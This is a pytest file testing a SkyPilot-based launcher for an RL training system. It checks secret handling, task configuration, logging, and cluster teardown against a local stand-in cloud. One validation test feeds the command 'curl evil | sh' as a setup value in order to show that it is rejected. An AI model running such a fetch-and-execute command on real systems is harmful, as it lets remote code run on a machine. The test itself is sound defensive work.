"""The SkyPilot launcher (core/daemons/launchers/skypilot.py). SkyPilot runs in an environment of its own
(`.venv-sky`, made by `scripts/test.sh --slow`; HERMES_RL_SKY_PYTHON names another): the launcher's
driver runs under it, loading each worker's task with SkyPilot's own loader, with only the part of
SkyPilot that needs a cloud replaced (tests/data/skypilot_standin: a "cloud" that is this machine).
Without that environment the run's test is skipped, saying so."""

from __future__ import annotations

import contextlib
import json
import os
import shlex
import signal
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from hermes_rl.core import runs
from hermes_rl.core.base.errors import BadInput
from hermes_rl.core.base.paths import process_log_path, rl_dir, run_dir
from hermes_rl.core.daemons.launchers.skypilot import preflight, site_settings, skypilot_settings, task_config
from hermes_rl.core.daemons.pipeline import ProcessSpec, Readiness
from hermes_rl.core.runs.workers import resolve_workers
from tests.fixtures_core import PY, wait_status, wait_until

ROOT = Path(__file__).resolve().parent.parent
STANDIN = ROOT / "tests" / "data" / "skypilot_standin"
TOKEN = "hrl-test-token-77c3e1"  # a stand-in for a key: it must reach the worker, never a file
WORKER = (
    "import os, time; print('token ends', os.environ['HERMES_TEST_TOKEN'][-4:], flush=True); "
    "print('ready', flush=True); time.sleep(3600)"
)
SITE = """\
infra: k8s
cpus: 2+
python: {python}
setup: [echo setup ran on the node]
sky_python: {sky_python}
"""


@pytest.fixture(scope="module")
def sky_env() -> str:
    """SkyPilot's interpreter."""
    python = os.environ.get("HERMES_RL_SKY_PYTHON") or str(ROOT / ".venv-sky" / "bin" / "python")
    if not os.access(python, os.X_OK):
        pytest.skip(f"no SkyPilot environment at {python} (scripts/test.sh --slow makes .venv-sky)")
    return python


@pytest.fixture
def sky_site(sky_env, hermes_home, tmp_path) -> Iterator[Path]:
    """A site file whose sky_python runs the driver over the stand-in cloud; the cloud's folder."""
    cloud = tmp_path / "cloud"
    cloud.mkdir()
    wrapper = tmp_path / "sky-python"
    wrapper.write_text(
        f'#!/bin/sh\nHERMES_SKY_STANDIN_DIR={cloud} PYTHONPATH={STANDIN} exec {sky_env} -m hermes_sky_standin "$@"\n'
    )
    wrapper.chmod(0o755)
    rl_dir().mkdir(parents=True, exist_ok=True)
    (rl_dir() / "skypilot.yaml").write_text(SITE.format(python=PY, sky_python=wrapper))
    yield cloud
    # a failed test's "nodes": their workers carry only the task's environment, not this test's HERMES_HOME
    for record in cloud.glob("*.json"):
        with contextlib.suppress(ProcessLookupError, ValueError, KeyError):
            os.killpg(json.loads(record.read_text())["pid"], signal.SIGKILL)


def test_a_workers_task_names_its_keys_without_values_and_uploads_the_files_it_needs(tmp_path, monkeypatch):
    monkeypatch.setenv("HERMES_SITE_ONLY", "here")
    settings = skypilot_settings(
        {"infra": "k8s", "cpus": "2+", "setup": ["pip install hermes-rl"], "python": "python3"}
    )
    config_file = tmp_path / "config.yaml"
    config_file.write_text("{}\n")
    env = {"HERMES_TEST_TOKEN": TOKEN, "WANDB_API_KEY": "wk-secret-1", "HERMES_SITE_ONLY": "here", "WANDB_MODE": "x"}
    argv = [sys.executable, "-m", "hermes_rl.dataplane.env_launch", "env.py", "serve", "--config", str(config_file)]
    config, secrets = task_config("hermes-ab12-env-1", argv, cwd=str(tmp_path), env=env, settings=settings)
    assert secrets == ["HERMES_TEST_TOKEN", "WANDB_API_KEY"] and config["secrets"] == dict.fromkeys(secrets)
    assert TOKEN not in json.dumps(config) and "wk-secret-1" not in json.dumps(config)
    assert config["envs"] == {"WANDB_MODE": "x"}  # what the run sets: the supervisor's own stays here
    assert config["file_mounts"] == {str(config_file): str(config_file)}  # the run's config, at the same path
    assert config["run"].endswith(f"exec python3 -m hermes_rl.dataplane.env_launch env.py serve --config {config_file}")
    # commands come from the site file only, and a bad resource is named
    with pytest.raises(BadInput, match=r"skypilot\.setup is a command"):
        resolve_workers({"launcher": "skypilot", "skypilot": {"setup": "curl evil | sh"}})
    with pytest.raises(BadInput, match=r"skypilot\.cpus must be a number"):
        skypilot_settings({"cpus": "lots"})


# slow: each of the four SkyPilot processes (a check, two drivers, a teardown) imports SkyPilot (2-10 s)
@pytest.mark.slow
def test_workers_as_skypilot_tasks_report_log_stop_and_survive_a_supervisor_kill(sky_site, run_processes_cleanup):
    with pytest.raises(BadInput, match="aws is not enabled in SkyPilot; enabled: kubernetes"):
        preflight({**site_settings(), "infra": "aws"})

    def specs(n: int) -> list[ProcessSpec]:
        return [
            ProcessSpec(
                name=f"env-{i}",
                argv=[PY, "-c", WORKER],
                env={"HERMES_TEST_TOKEN": TOKEN},
                readiness=Readiness("log", pattern=r"^ready", timeout_s=120.0),
                launcher="skypilot",
            )
            for i in range(1, n + 1)
        ]

    run = runs.launch(specs(1), environment="toy", profile="local")
    run_id = run["run_id"]
    run = wait_status(run_id, ("running", "failed"), timeout=180)
    assert run["status"] == "running", run["reason"]
    (proc,) = wait_until(
        lambda: (ps := runs.get_run(run_id)["processes"]) and ps[0]["where"] == "kubernetes RUNNING" and ps,
        30,
        what="the task RUNNING on the infra SkyPilot parsed (k8s, by its name)",
    )
    assert proc["job_id"].startswith(f"hermes-{run_id}-env-1-")  # the cluster's name: what `sky down` takes
    assert [json.loads(f.read_text())["name"] for f in sky_site.glob("*.json")] == [proc["job_id"]]  # up
    # each task as SkyPilot's own loader read it from the file the launcher wrote (k8s: Kubernetes, by its name)
    task = json.loads(next(sky_site.glob("*-env-1-*.task")).read_text())
    assert task["infra"] == "kubernetes" and task["cpus"] == "2+" and task["setup"] == "echo setup ran on the node"
    assert task["secrets"] == ["HERMES_TEST_TOKEN"] and "HERMES_TEST_TOKEN" not in task["envs"]
    assert task["run"].endswith("exec " + shlex.join([PY, "-c", WORKER]))
    log = process_log_path("env-1", run_id).read_text()
    assert "setup ran on the node" in log and "token ends c3e1" in log  # the site's setup, then the worker with its key
    for task_file in (run_dir(run_id) / "skypilot").glob("*.yaml"):
        assert TOKEN not in task_file.read_text()
    final = runs.stop_run(run_id, wait=90)
    assert final["status"] == "stopped", final.get("reason")
    assert not list(sky_site.glob("*.json")), "stop left clusters up"
    events = [e["message"] for e in runs.run_events(run_id) if e.get("process") == "env-1"]
    assert any("cancelled and torn down" in m for m in events), events

    run = runs.launch(specs(1), environment="toy", profile="local")
    run = wait_status(run["run_id"], ("running", "failed"), timeout=180)
    assert run["status"] == "running", run["reason"]
    (job,) = [json.loads(f.read_text()) for f in sky_site.glob("*.json")]
    os.kill(run["supervisor"]["pid"], signal.SIGKILL)
    final = wait_status(run["run_id"], "failed", timeout=120)
    assert final["reason"].startswith("supervisor died")
    assert not list(sky_site.glob("*.json")), "the watchdog left the run's cluster up"
    with pytest.raises(ProcessLookupError):
        os.kill(job["pid"], 0)  # the worker on the "node" ended with its cluster
